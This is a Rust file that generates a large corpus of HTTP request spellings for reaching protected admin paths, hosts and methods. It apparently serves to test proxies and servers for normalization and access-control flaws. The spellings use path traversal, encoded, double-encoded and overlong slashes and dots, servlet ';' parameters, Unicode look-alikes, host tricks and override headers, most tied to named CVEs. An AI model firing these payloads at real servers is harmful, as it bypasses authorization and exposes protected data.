//! Spellings of requests for protected resources, by the trick that they use.
//!
//! Some are harmless, and some mean another resource to most servers. The judges are the servers: a spelling counts where
//! the handler `admin` runs.

use std::collections::HashSet;
use std::fmt;

const HOST: &str = "shop.example.com";
/// Every path of this host is protected.
const ADMIN_HOST: &str = "admin.example.com";

/// The most characters of a target in a message.
const SHOWN: usize = 100;

/// Spellings with one trick.
pub struct Class {
    pub name: &'static str,
    pub spellings: Vec<Spelling>,
}

/// A request, as it is written on the wire.
#[derive(Clone, PartialEq, Eq, Hash)]
pub struct Spelling {
    pub method: &'static str,
    pub target: Vec<u8>,
    pub authority: String,
    /// More header fields. Pseudo-headers are only sent over HTTP/2.
    pub fields: Vec<(&'static str, &'static str)>,
}

impl Spelling {
    /// `GET target` of a host that is not protected as a whole.
    pub fn get(target: impl Into<Vec<u8>>) -> Self {
        Self { method: "GET", target: target.into(), authority: HOST.into(), fields: Vec::new() }
    }
}

impl fmt::Display for Spelling {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        let target: String = self.target.escape_ascii().map(char::from).take(SHOWN).collect();
        write!(formatter, "{} {target} of {}", self.method, self.authority)?;
        self.fields.iter().try_for_each(|(name, value)| write!(formatter, ", {name}: {value}"))
    }
}

/// Every class. A spelling is in the first class that has it.
pub fn corpus() -> Vec<Class> {
    let classes = [
        ("dot segments", dot_segments()),
        ("encoded dot segments", encoded_dot_segments()),
        ("double slashes", double_slashes()),
        ("backslashes", backslashes()),
        ("encoded slashes", encoded_slashes()),
        ("path parameters", path_parameters()),
        ("encoded letters", encoded_letters()),
        ("double encoding", double_encoding()),
        ("%u escapes", percent_u()),
        ("invalid escapes", invalid_escapes()),
        ("overlong UTF-8", overlong()),
        ("look-alikes", look_alikes()),
        ("controls", controls()),
        ("white space", white_space()),
        ("trailing dots", trailing_dots()),
        ("upper case", upper_case()),
        ("trailing slash", trailing_slash()),
        ("fragments", fragments()),
        ("queries", queries()),
        ("absolute form", absolute_form()),
        ("authority", authority()),
        ("method", method()),
        ("header fields", header_fields()),
        ("long", long()),
        ("pairs", pairs()),
    ];
    let mut known = HashSet::new();
    let only_new = |(name, mut spellings): (_, Vec<Spelling>)| {
        spellings.retain(|spelling| known.insert(spelling.clone()));
        Class { name, spellings }
    };
    classes.into_iter().map(only_new).collect()
}

fn paths<T: Into<Vec<u8>>>(targets: impl IntoIterator<Item = T>) -> Vec<Spelling> {
    targets.into_iter().map(Spelling::get).collect()
}

/// CVE-2019-9901: Envoy compared paths before it resolved them. Istio sets `normalize_path` since.
fn dot_segments() -> Vec<Spelling> {
    paths([
        "/./admin/users",
        "/././admin/users",
        "/admin/./users",
        "/admin/users/.",
        "/admin/users/..",
        "/admin/users/../users",
        "/admin/x/../users",
        "/../admin/users",
        "/../../../admin/users",
        "/public/../admin/users",
        "/public/./../admin/users",
        "/public/x/../../admin/users",
        "/public/../public/../admin/users",
        "/public/..admin/users",
        "/public/.../admin/users",
        "/public/...//admin/users",
        "/public/....//admin/users",
        "/public/..",
        "/public/../keys",
        "/./keys",
        "/keys/.",
        "/x/../keys",
    ])
}

/// CVE-2021-41773 (Apache httpd: `.%2e`), CVE-2021-28164 (Jetty: `%2e`). All ways to write a dot and a slash.
fn encoded_dot_segments() -> Vec<Spelling> {
    const DOTS: [&str; 3] = [".", "%2e", "%2E"];
    const SLASHES: [&str; 6] = ["/", "%2f", "%2F", "\\", "%5c", "%5C"];
    let mut targets = Vec::new();
    for slash in SLASHES {
        for first in DOTS {
            for second in DOTS {
                targets.push(format!("/public/{first}{second}{slash}admin/users"));
                targets.push(format!("/public{slash}{first}{second}{slash}admin{slash}users"));
            }
            targets.push(format!("/{first}{slash}admin/users"));
            targets.push(format!("/admin{slash}{first}/users"));
        }
    }
    paths(targets)
}

/// CVE-2021-31920: Istio compared paths with `//` as they were; nginx and WSGI frameworks merge slashes.
fn double_slashes() -> Vec<Spelling> {
    paths([
        "//admin/users",
        "///admin/users",
        "////admin//users",
        "/admin//users",
        "/admin///users",
        "//admin",
        "/admin//",
        "//admin/users//",
        "//keys",
        "/keys//",
        "/public//../admin/users",
        "/public/..//admin/users",
        "/public//..//admin//users",
        "/public///../../admin/users",
        "//public/../admin/users",
        "//shop.example.com/admin/users",
        "//admin.example.com/public",
        "/.//admin/users",
    ])
}

/// CVE-2021-29492 (Envoy: `%5C`), CVE-2007-0450 (Tomcat behind a proxy).
fn backslashes() -> Vec<Spelling> {
    paths([
        "\\admin\\users",
        "/\\admin/users",
        "\\/admin/users",
        "/admin\\users",
        "/admin\\\\users",
        "/admin/\\users",
        "/public\\..\\admin\\users",
        "/public/..\\admin/users",
        "/public\\../admin/users",
        "/public/..\\/admin/users",
        "/public/\\../admin/users",
        "/admin%5cusers",
        "/admin%5Cusers",
        "/%5cadmin/users",
        "/%5c%5cadmin/users",
        "/admin/%5cusers",
        "/public/..%5cadmin%5cusers",
        "/public%5c..%5cadmin%5cusers",
        "/\\keys",
        "/keys\\",
    ])
}

/// CVE-2021-29492 (Envoy: `%2F`), CVE-2021-31920 (Istio). WSGI and ASGI decode them before routing.
fn encoded_slashes() -> Vec<Spelling> {
    paths([
        "/admin%2fusers",
        "/admin%2Fusers",
        "/admin%2f",
        "/admin%2f%2fusers",
        "/admin/%2fusers",
        "/%2fadmin/users",
        "/%2Fadmin%2Fusers",
        "%2fadmin%2fusers",
        "%2fadmin/users",
        "/%2f%2fadmin/users",
        "/public%2f..%2fadmin%2fusers",
        "/public/..%2fadmin/users",
        "/public%2f../admin/users",
        "/public%2f%2e%2e%2fadmin%2fusers",
        "/public/x%2f..%2f..%2fadmin/users",
        "/%2fkeys",
        "/keys%2f",
    ])
}

/// Orange Tsai, "Breaking Parser Logic!" (Black Hat USA 2018); CVE-2020-5902 (F5), CVE-2020-1957, CVE-2020-11989 and
/// CVE-2020-13933 (Apache Shiro): servlet containers remove `;` and what follows in the segment.
fn path_parameters() -> Vec<Spelling> {
    paths([
        "/admin;x=1/users",
        "/admin;/users",
        "/admin;;/users",
        "/admin;a=b;c=d/users",
        "/admin;jsessionid=1",
        "/admin/users;jsessionid=1",
        "/admin/users;",
        "/admin/;/users",
        "/;/admin/users",
        "/;x=1/admin/users",
        "/;x/;y/admin/users",
        "//;/admin/users",
        "/;admin/users",
        "/.;/admin/users",
        "/.;x=1/admin/users",
        "/..;/admin/users",
        "/public/..;/admin/users",
        "/public/..;x=y/admin/users",
        "/public/..;/..;/admin/users",
        "/public;/../admin/users",
        "/public/;/../admin/users",
        "/public/;/../../admin/users",
        "/public/.;/../admin/users",
        "/public/%2e%2e;/admin/users",
        "/public/..%3b/admin/users",
        "/admin%3bx=1/users",
        "/admin%3B/users",
        "/%3b/admin/users",
        "/admin,x=1/users",
        "/keys;x=1",
        "/;/keys",
    ])
}

/// Every letter of `admin` on its own, several, and all of them. With `normalize_path`, Envoy decodes them.
fn encoded_letters() -> Vec<Spelling> {
    let upper = |byte: u8| format!("%{byte:02X}");
    let lower = |byte: u8| format!("%{byte:02x}");
    let encode = |text: &str, which: &dyn Fn(usize) -> bool, escape: &dyn Fn(u8) -> String| -> String {
        let letter = |(at, byte): (usize, u8)| match which(at) {
            true => escape(byte),
            false => char::from(byte).to_string(),
        };
        text.bytes().enumerate().map(letter).collect()
    };
    let mut targets = Vec::new();
    for escape in [&lower as &dyn Fn(u8) -> String, &upper] {
        for letter in 0..5 {
            targets.push(format!("/{}/users", encode("admin", &|at| at == letter, escape)));
        }
        targets.push(format!("/{}/users", encode("admin", &|at| at % 2 == 0, escape)));
        targets.push(format!("/{}/users", encode("admin", &|_| true, escape)));
        targets.push(format!("/admin/{}", encode("users", &|_| true, escape)));
        targets.push(format!("/public/../{}/users", encode("admin", &|_| true, escape)));
        targets.push(format!("/{}", encode("keys", &|_| true, escape)));
        targets.push(format!("/{}", encode("keys", &|at| at == 1, escape)));
    }
    // Another letter in upper case.
    targets.extend(["/%41dmin/users", "/%41DMIN/users", "/a%44min/users", "/%4Beys"].map(String::from));
    paths(targets)
}

/// CVE-2001-0333 (IIS), CVE-2021-42013 (Apache httpd: `%%32%65`), CVE-2020-11989 (Apache Shiro: `%252f`).
fn double_encoding() -> Vec<Spelling> {
    let mut targets: Vec<String> = Vec::new();
    for once in [
        "/%61dmin/users",
        "/%61%64%6d%69%6e/users",
        "/admin%2fusers",
        "/%2fadmin/users",
        "/public/%2e%2e/admin/users",
        "/public/%2e%2e%2fadmin/users",
        "/public/..%2fadmin/users",
        "/public/..%5cadmin/users",
        "/admin%3bx/users",
        "/admin%00/users",
        "/admin%20/users",
        "/%6beys",
    ] {
        let twice = once.replace('%', "%25");
        targets.extend([twice.replace("%25", "%2525"), twice.replace("%25", "%25%32%35"), twice]);
    }
    targets.extend(
        [
            "/public/%%32%65%%32%65/admin/users",
            "/public/.%%32%65/admin/users",
            "/public/%25%32%65%25%32%65/admin/users",
            "/admin%%32%66users",
            "/admin%%32fusers",
            "/%%36%31dmin/users",
            "/%2%36%31dmin/users",
            "/%25%36%31dmin/users",
        ]
        .map(String::from),
    );
    paths(targets)
}

/// IIS and old JavaScript (`escape`); CVE-2021-34429 (Jetty: `%u002e`).
fn percent_u() -> Vec<Spelling> {
    paths([
        "/%u0061dmin/users",
        "/%u0061%u0064%u006d%u0069%u006e/users",
        "/%U0061dmin/users",
        "/admin%u002fusers",
        "/admin%u2215users",
        "/admin%uff0fusers",
        "/public/%u002e%u002e/admin/users",
        "/public/%u002e./admin/users",
        "/public/..%u002fadmin/users",
        "/public/..%u005cadmin/users",
        "/%u002e/admin/users",
        "/%uff41dmin/users",
        "/%u006beys",
        "/%25u0061dmin/users",
    ])
}

/// `%` without two hexadecimal digits: left as it is, dropped, or decoded to something, depending on the server.
fn invalid_escapes() -> Vec<Spelling> {
    paths([
        "/%admin/users",
        "/admin%/users",
        "/%/admin/users",
        "/%%/admin/users",
        "/admin/users%",
        "/admin/users%2",
        "/admin%2/users",
        "/admin%zz/users",
        "/%zz/../admin/users",
        "/public/%/../admin/users",
        "/public/%2/../admin/users",
        "/public/%2%65%2%65/admin/users",
        "/public/%2g%2g/admin/users",
        "/%6/../admin/users",
        "/% 61dmin/users",
        "/%+61dmin/users",
        "/%-1admin/users",
        "/%0x61dmin/users",
        "/%x61dmin/users",
        "/\\x61dmin/users",
        "/&#97;dmin/users",
        "/keys%",
    ])
}

/// CVE-2000-0884 (IIS), CVE-2008-2938 (Tomcat): UTF-8 with more bytes than needed.
fn overlong() -> Vec<Spelling> {
    let mut spellings = paths([
        "/%c1%a1dmin/users",
        "/%e0%81%a1dmin/users",
        "/%f0%80%81%a1dmin/users",
        "/%f8%80%80%81%a1dmin/users",
        "/admin%c0%afusers",
        "/admin%e0%80%afusers",
        "/admin%f0%80%80%afusers",
        "/admin%c1%9cusers",
        "/admin%c0%2fusers",
        "/%c0%afadmin/users",
        "/public/%c0%ae%c0%ae/admin/users",
        "/public/%c0%ae./admin/users",
        "/public/%e0%80%ae%e0%80%ae/admin/users",
        "/public/%f0%80%80%ae%f0%80%80%ae/admin/users",
        "/public/%c0%2e%c0%2e/admin/users",
        "/public/..%c0%afadmin/users",
        "/public/..%c1%9cadmin/users",
        "/%c0%ae/admin/users",
        "/admin%c0%80/users",
        "/admin%c0/users",
        "/admin%ff/users",
        "/%c1%abeys",
    ]);
    spellings.extend(paths([
        &b"/\xc1\xa1dmin/users"[..],
        b"/admin\xc0\xafusers",
        b"/public/\xc0\xae\xc0\xae/admin/users",
        b"/admin\xff/users",
        b"/admin/users\xa0",
        b"/admin\xa0/users",
    ]));
    spellings
}

/// Characters that normalization (NFKC), a "best fit" code page or case folding turns into the plain ones, and characters
/// that are ignored. Encoded and as they are.
fn look_alikes() -> Vec<Spelling> {
    let mut spellings = Vec::new();
    for plain in [
        // Fullwidth letters, slash, full stop, semicolon.
        "/\u{ff41}dmin/users",
        "/\u{ff41}\u{ff44}\u{ff4d}\u{ff49}\u{ff4e}/users",
        "\u{ff0f}admin\u{ff0f}users",
        "/admin\u{ff0f}users",
        "/public/\u{ff0e}\u{ff0e}/admin/users",
        "/public/..\u{ff0f}admin/users",
        "/admin\u{ff1b}x/users",
        // Division slash, fraction slash, one dot leader, two dot leader, reverse solidus operator.
        "/admin\u{2215}users",
        "/admin\u{2044}users",
        "/public/\u{2024}\u{2024}/admin/users",
        "/public/\u{2025}/admin/users",
        "/admin\u{29f5}users",
        // A dotless i, an i with a dot, a long s, a Kelvin sign, a Cyrillic a.
        "/adm\u{131}n/users",
        "/ADM\u{130}N/users",
        "/admin/u\u{17f}ers",
        "/\u{212a}eys",
        "/\u{430}dmin/users",
        // A soft hyphen, a zero-width space and joiner, a byte order mark, a combining grapheme joiner.
        "/ad\u{ad}min/users",
        "/ad\u{200b}min/users",
        "/admin\u{200d}/users",
        "/\u{feff}admin/users",
        "/admin\u{34f}/users",
        "/admin/users\u{feff}",
    ] {
        let escape = |byte: u8| match byte.is_ascii() {
            true => char::from(byte).to_string(),
            false => format!("%{byte:02X}"),
        };
        spellings
            .extend([Spelling::get(plain), Spelling::get(plain.bytes().map(escape).collect::<String>())]);
    }
    spellings
}

/// CVE-2022-22978 (Spring Security: `.` of a regular expression does not match `%0a`), CVE-2021-34429 (Jetty: `%00`).
/// C programs end a string at a NUL.
fn controls() -> Vec<Spelling> {
    let mut spellings = Vec::new();
    for control in
        ["%00", "%01", "%08", "%09", "%0a", "%0b", "%0c", "%0d", "%0d%0a", "%1b", "%1f", "%7f", "%c2%85"]
    {
        spellings.extend(paths([
            format!("/admin{control}/users"),
            format!("/admin/users{control}"),
            format!("/{control}admin/users"),
        ]));
    }
    spellings.extend(paths([
        "/%00/admin/users",
        "/%00/../admin/users",
        "/public%00/../admin/users",
        "/public/..%00/admin/users",
        "/public/.%00./admin/users",
        "/public/..%0d/admin/users",
        "/admin%00.html",
        "/admin%00x/users",
        "/keys%00",
        "/keys%0a",
        "/admin\0/users",
        "/admin/users\0",
        "/\0admin/users",
        "/admin\t/users",
        "/\tadmin/users",
        "/admin\x0b/users",
        "/admin\x0c/users",
        "/admin\x7f/users",
        "/admin\x01/users",
    ]));
    spellings
}

/// CVE-2016-5007 (Spring: segments are trimmed), CVE-2020-17523 (Apache Shiro: `%20`).
fn white_space() -> Vec<Spelling> {
    paths([
        "/admin%20/users",
        "/admin/%20users",
        "/admin/users%20",
        "/%20admin/users",
        "/%20/admin/users",
        "/admin/%20",
        "/admin%20",
        "/%20",
        "/admin+/users",
        "/+admin/users",
        "/admin%2b/users",
        "/admin%c2%a0/users",
        "/admin/users%c2%a0",
        "/admin%e2%80%83/users",
        "/admin%e3%80%80/users",
        "/admin\u{a0}/users",
        "/public/..%20/admin/users",
        "/public/%20../admin/users",
        "/public/.%20./admin/users",
        " /admin/users",
        "/ admin/users",
        "/admin /users",
        "/admin/users ",
        "/admin/ users",
        "/public/.. /admin/users",
        "/keys%20",
        "/%20keys",
        "/keys ",
    ])
}

/// Windows drops dots and spaces at the end of a file name.
fn trailing_dots() -> Vec<Spelling> {
    paths([
        "/admin./users",
        "/admin../users",
        "/admin.../users",
        "/admin%2e/users",
        "/admin%2E%2e/users",
        "/admin/users.",
        "/admin/users..",
        "/admin/.users",
        "/.admin/users",
        "/admin.",
        "/admin. ",
        "/admin.%20/users",
        "/admin%20./users",
        "/admin::$INDEX_ALLOCATION/users",
        "/admin::$DATA",
        "/admin~1/users",
        "/admin.html",
        "/admin.json/users",
        "/keys.",
        "/keys.json",
        "/keys%2e",
    ])
}

/// Express ignores case unless told otherwise ("case sensitive routing"), and so do file systems of Windows and macOS. All
/// spellings of `admin`.
fn upper_case() -> Vec<Spelling> {
    let spell = |pattern: u32| -> String {
        let letter = |(at, letter): (usize, char)| match pattern >> at & 1 {
            1 => letter.to_ascii_uppercase(),
            _ => letter,
        };
        "admin".chars().enumerate().map(letter).collect()
    };
    let mut targets: Vec<String> = (1..32).map(|pattern| format!("/{}/users", spell(pattern))).collect();
    targets.extend(
        [
            "/admin/USERS",
            "/Admin",
            "/ADMIN/",
            "/PUBLIC/../ADMIN/users",
            "/public/../Admin/users",
            "/KEYS",
            "/Keys",
            "/kEYS/",
        ]
        .map(String::from),
    );
    paths(targets)
}

/// Express ignores it unless told otherwise ("strict routing"), other servers redirect.
fn trailing_slash() -> Vec<Spelling> {
    paths([
        "/admin",
        "/admin/",
        "/admin/users/",
        "/admin/?",
        "/admin/users/?x",
        "/keys",
        "/keys/",
        "/keys/?",
        "/keys/?x=1",
        "/keys/x",
        "/./keys/",
    ])
}

/// CVE-2021-32779 (Envoy), CVE-2021-39156 (Istio): a fragment was a part of the path.
fn fragments() -> Vec<Spelling> {
    paths([
        "/admin/users#",
        "/admin/users#x",
        "/admin#x/users",
        "/admin#",
        "/#/admin/users",
        "#/admin/users",
        "/#/../admin/users",
        "/public#/../admin/users",
        "/public/#/../../admin/users",
        "/public/..#/admin/users",
        "/admin/users?#",
        "/admin/users#?",
        "/admin/users?x#y",
        "/admin%23/users",
        "/admin%23",
        "/%23/../admin/users",
        "/public%23/../admin/users",
        "/public/..%23/admin/users",
        "/keys#",
        "/keys%23",
        "/keys%23x",
    ])
}

/// `?` in odd places. `%3f` is a part of the path, unless a server decodes before it splits.
fn queries() -> Vec<Spelling> {
    paths([
        "/admin/users?",
        "/admin/users??",
        "/admin/users?x=1",
        "/admin/users?/../../public",
        "/admin/users?x=/public",
        "/admin?x/users",
        "/admin?",
        "/admin?/public",
        "/?/admin/users",
        "/?/../admin/users",
        "/public?/../admin/users",
        "/public/?/../../admin/users",
        "/public/..?/admin/users",
        "/admin%3f/users",
        "/admin%3F",
        "/admin%3fx=1",
        "/admin/users%3f",
        "/%3f/../admin/users",
        "/public%3f/../admin/users",
        "/public%3f/../../admin/users",
        "/admin/users&x=1",
        "/admin&/users",
        "/admin/users?%00",
        "/admin/users?x=%2e%2e%2f",
        "/admin/users?;",
        "/keys?",
        "/keys?x",
        "/keys%3f",
        "/keys%3fx=1",
        "/keys&x",
    ])
}

/// RFC 9112, section 3.2.2: servers accept a URL in the request line.
fn absolute_form() -> Vec<Spelling> {
    paths([
        "http://shop.example.com/admin/users",
        "HTTP://shop.example.com/admin/users",
        "https://shop.example.com/admin/users",
        "http://SHOP.example.com:80/admin/users",
        "http://shop.example.com//admin/users",
        "http://shop.example.com/./admin/users",
        "http://shop.example.com/public/../admin/users",
        "http://shop.example.com/public/..%2fadmin/users",
        "http://shop.example.com/Admin/users",
        "http://shop.example.com/%61dmin/users",
        "http://shop.example.com\\admin\\users",
        "http://shop.example.com?/admin/users",
        "http://shop.example.com#/admin/users",
        "http://shop.example.com/admin/users#x",
        "http://user@shop.example.com/admin/users",
        "http://shop.example.com/keys",
        "http://admin.example.com/",
        "http://admin.example.com/public/x",
        "http://ADMIN.example.com/public/x",
        "http://admin.example.com:80/public/x",
        "http://admin.example.com./public/x",
        "http://user@admin.example.com/public/x",
        "http://shop.example.com@admin.example.com/public/x",
        "http:///admin/users",
        "http:/admin/users",
        "http:admin/users",
        "http://admin/users",
        "ftp://shop.example.com/admin/users",
        "file:///admin/users",
        "x:/admin/users",
        "shop.example.com/admin/users",
        "shop.example.com:80/admin/users",
        "admin/users",
        "./admin/users",
        "?/admin/users",
        "*/admin/users",
        "*",
        "",
    ])
}

/// CVE-2021-39155 (Istio: the case of a host). RFC 9110, section 4.2.4 forbids user information.
fn authority() -> Vec<Spelling> {
    [
        "admin.example.com",
        "ADMIN.example.com",
        "Admin.Example.Com",
        "admin.example.com:80",
        "admin.example.com:8080",
        "admin.example.com:443",
        "ADMIN.EXAMPLE.COM:80",
        "admin.example.com:",
        "admin.example.com:080",
        "admin.example.com:80:80",
        "admin.example.com:443:443",
        "admin.example.com:port",
        "admin.example.com:0",
        "admin.example.com:99999",
        "admin.example.com:-1",
        "admin.example.com:+80",
        "admin.example.com.",
        "admin.example.com..",
        "admin.example.com.:80",
        "admin.example.com..:80",
        ".admin.example.com",
        "admin..example.com",
        "user@admin.example.com",
        "user:password@admin.example.com",
        "user@admin.example.com:80",
        "shop.example.com@admin.example.com",
        "admin.example.com@shop.example.com",
        "admin.example.com,shop.example.com",
        "shop.example.com,admin.example.com",
        "admin.example.com;shop.example.com",
        "admin.example.com/",
        "admin.example.com/x",
        "admin.example.com?x",
        "admin.example.com#x",
        "admin.example.com\\",
        "admin.example.com%00",
        "admin.example.com%2e",
        "%61dmin.example.com",
        "admin%2eexample%2ecom",
        "[admin.example.com]",
        "admin.example.com ",
        " admin.example.com",
        "\tadmin.example.com\t",
        "admin.example.com shop.example.com",
        "shop.example.com admin.example.com",
        "\"admin.example.com\"",
        "admin\u{3002}example\u{3002}com",
        "\u{ff41}dmin.example.com",
        "admin.example.com\u{a0}",
        "http://admin.example.com",
        "//admin.example.com",
    ]
    .into_iter()
    .flat_map(|authority| {
        let of = |target: &str| Spelling { authority: authority.into(), ..Spelling::get(target) };
        [of("/public/x"), of("/")]
    })
    .chain([
        Spelling { fields: vec![("host", ADMIN_HOST)], ..Spelling::get("/public/x") },
        Spelling { fields: vec![("host", "ADMIN.example.com:80")], ..Spelling::get("/public/x") },
        Spelling {
            authority: ADMIN_HOST.into(),
            fields: vec![("host", "shop.example.com")],
            ..Spelling::get("/public/x")
        },
        Spelling {
            authority: String::new(),
            fields: vec![("host", ADMIN_HOST)],
            ..Spelling::get("/public/x")
        },
    ])
    .collect()
}

/// Methods are case-sensitive (RFC 9110, section 9.1); some routers ignore case.
fn method() -> Vec<Spelling> {
    let orders = |method| Spelling { method, ..Spelling::get("/orders") };
    let mut spellings: Vec<Spelling> =
        ["POST", "post", "Post", "pOST", "POSt", "POST_", "POS", "_POST", "\u{ff30}OST", "PO\u{17f}T", ""]
            .map(orders)
            .into();
    // No HEAD: its response does not show which handler ran.
    for method in ["get", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "FROB"] {
        spellings.extend([
            Spelling { method, ..Spelling::get("/admin/users") },
            Spelling { method, ..Spelling::get("/keys") },
            Spelling { method, authority: ADMIN_HOST.into(), ..Spelling::get("/public/x") },
        ]);
    }
    for (name, value) in
        [("x-http-method-override", "POST"), ("x-method-override", "POST"), ("x-http-method", "POST")]
    {
        spellings.push(Spelling { fields: vec![(name, value)], ..Spelling::get("/orders") });
    }
    for target in ["/Orders", "/orders/", "/Orders/", "//orders", "/orders?x", "/%6frders", "/orders;x"] {
        for method in ["POST", "post"] {
            spellings.push(Spelling { method, ..Spelling::get(target) });
        }
    }
    spellings.push(Spelling::get("/orders?_method=POST"));
    spellings
}

/// HTTP/2 has the request line in header fields, which can be repeated. CVE-2018-14773 (Symfony): some applications prefer
/// the path of a header.
fn header_fields() -> Vec<Spelling> {
    let with = |target: &str, fields: &[(&'static str, &'static str)]| Spelling {
        fields: fields.to_vec(),
        ..Spelling::get(target)
    };
    vec![
        with("/public/x", &[(":path", "/admin/users")]),
        with("/admin/users", &[(":path", "/public/x")]),
        with("/public/x", &[(":authority", ADMIN_HOST)]),
        with("/orders", &[(":method", "POST")]),
        with("/public/x", &[(":scheme", "https")]),
        with("/public/x", &[("x-original-url", "/admin/users")]),
        with("/public/x", &[("x-rewrite-url", "/admin/users")]),
        with("/public/x", &[("x-envoy-original-path", "/admin/users")]),
        with("/public/x", &[("x-forwarded-prefix", "/admin")]),
        with("/public/x", &[("x-forwarded-path", "/admin/users")]),
        with("/public/x", &[("x-forwarded-uri", "/admin/users")]),
        with("/public/x", &[("x-forwarded-host", ADMIN_HOST)]),
        with("/public/x", &[("forwarded", "host=admin.example.com")]),
        with("/public/x", &[("x-host", ADMIN_HOST)]),
    ]
}

/// A buffer or a counter may end before the path does.
fn long() -> Vec<Spelling> {
    let up_and_down =
        |times: usize| format!("/public{}{}/admin/users", "/x".repeat(times), "/..".repeat(times + 1));
    paths([
        up_and_down(10),
        up_and_down(100),
        up_and_down(1000),
        format!("{}/admin/users", "/.".repeat(1000)),
        format!("{}/admin/users", "/".repeat(1000)),
        format!("/{}/admin/users", "/".repeat(10_000)),
        format!("{}/admin/users", "/x/..".repeat(1000)),
        format!("/{}../admin/users", "x".repeat(5000)),
        format!("/{}/../admin/users", "x".repeat(5000)),
        format!("/admin/{}", "x".repeat(10_000)),
        format!("/admin/users{}", "/".repeat(5000)),
        format!("/admin{}/users", "%20".repeat(1000)),
        format!("/admin;{}/users", "x".repeat(5000)),
        format!("/{}/admin/users", ";".repeat(1000)),
        format!("/admin/users?{}", "x".repeat(20_000)),
        format!("/{}/admin/users", "%2e/".repeat(1000)),
        format!("/public{}/admin/users", "/x%2f..%2f..".repeat(300)),
        format!("/%{}61dmin/users", "25".repeat(1000)),
        format!("/keys{}", "/".repeat(1000)),
    ])
}

/// Two tricks at once, in both orders.
fn pairs() -> Vec<Spelling> {
    type Trick = fn(&str) -> String;
    const TRICKS: [Trick; 19] = [
        |path| format!("/{path}"),
        |path| format!("/.{path}"),
        |path| format!("/;{path}"),
        |path| format!("/public/..{path}"),
        |path| format!("/public/%2e%2e{path}"),
        |path| format!("/public/..;{path}"),
        |path| format!("/public/..%2f{path}"),
        |path| path.replacen('a', "%61", 1).replacen('k', "%6b", 1),
        |path| path.replacen("in", "IN", 1).replacen("ys", "YS", 1),
        |path| path.replacen("/users", "%2fusers", 1),
        |path| path.replacen("/users", "\\users", 1),
        |path| path.replacen("/users", ";x=1/users", 1),
        |path| path.replacen("/users", "%00/users", 1),
        |path| path.replacen("/users", "%20/users", 1),
        |path| path.replacen("/users", "./users", 1),
        |path| path.replace('%', "%25"),
        |path| format!("{path}/"),
        |path| format!("{path}#x"),
        |path| format!("{path}%3fx"),
    ];
    let mut targets = Vec::new();
    for (at, first) in TRICKS.iter().enumerate() {
        for (other, second) in TRICKS.iter().enumerate() {
            if at != other {
                targets.extend(["/admin/users", "/keys"].map(|path| second(&first(path))));
            }
        }
    }
    paths(targets)
}

/// Paths and queries as applications really have them.
pub const ORDINARY: &[&str] = &[
    "/",
    "/index.html",
    "/favicon.ico",
    "/robots.txt",
    "/.well-known/openid-configuration",
    "/.well-known/acme-challenge/Zm9v-bar_baz",
    "/.well-known/security.txt",
    "/healthz",
    "/api/v1/orders",
    "/api/v1/orders/",
    "/api/v1.2/orders/42",
    "/api/v1/orders/42/items/7",
    "/api/v2/users/6f1b1f0e-8f4b-4b5e-9d5c-0d6b7a1d2e3f",
    "/api/v1/users/alice@example.com",
    "/api/v1/users/~alice",
    "/~alice/public_html/",
    "/users/O'Brien",
    "/users/Jos%C3%A9",
    "/wiki/%C3%9Cbersicht",
    "/wiki/%E6%97%A5%E6%9C%AC%E8%AA%9E",
    "/wiki/%F0%9F%8D%8C",
    "/wiki/C%2B%2B",
    "/wiki/What%27s_new%3F",
    "/wiki/Main_Page:Talk",
    "/wiki/A_(letter)",
    "/files/annual%20report%202025.pdf",
    "/files/a%20b/c%20d.txt",
    "/files/archive.tar.gz",
    "/files/app.min.js",
    "/files/main.3f2a9c.chunk.css.map",
    "/files/50%25-off.png",
    "/files/100%25",
    "/files/price%20%E2%82%AC%205.csv",
    "/files/[draft].txt",
    "/files/a%5Bb%5D.txt",
    "/files/a=b&c=d",
    "/files/a+b",
    "/files/a,b,c",
    "/files/$metadata",
    "/files/v1.0.0-rc.1+build.5/notes",
    "/files/...and-more",
    "/files/.hidden",
    "/files/..data",
    "/files/-",
    "/files/_",
    "/odata/Products(42)",
    "/odata/Products(Name='x',Id=1)",
    "/npm/@scope/name",
    "/npm/@scope/name/-/name-1.0.0.tgz",
    "/maven/org/example/app/1.0-SNAPSHOT/maven-metadata.xml",
    "/v2/library/nginx/manifests/sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "/v1/projects/p:run",
    "/v1/{name=projects}",
    "/google.pubsub.v1.Publisher/Publish",
    "/map/48.8584,2.2945,17z",
    "/time/2026-01-05T10:00:00Z",
    "/time/10:30",
    "/colors/%23ff0000",
    "/search?q=a+b&lang=de",
    "/search?q=a%20b%2Fc%5Cd%3B%00",
    "/search?q=../../etc/passwd",
    "/search?url=https://example.com//x;y=1?z=%2e%2e",
    "/search?path=/admin/users",
    "/search?q=%zz%u0061&empty=&&flag",
    "/search?q=\u{e4}",
    "/search?",
    "/search?filter[name]=x&filter[age]=%3E5",
    "/search?json={\"a\":[1,2]}",
    "/search?redirect=http%3A%2F%2Fadmin.example.com%2F%252e",
    "/administrator/index.php",
    "/admins",
    "/user/admin",
    "/keyserver",
    "/static/keys.json",
    "/orders",
    "/A/B/C",
    "/CamelCase/Path",
];
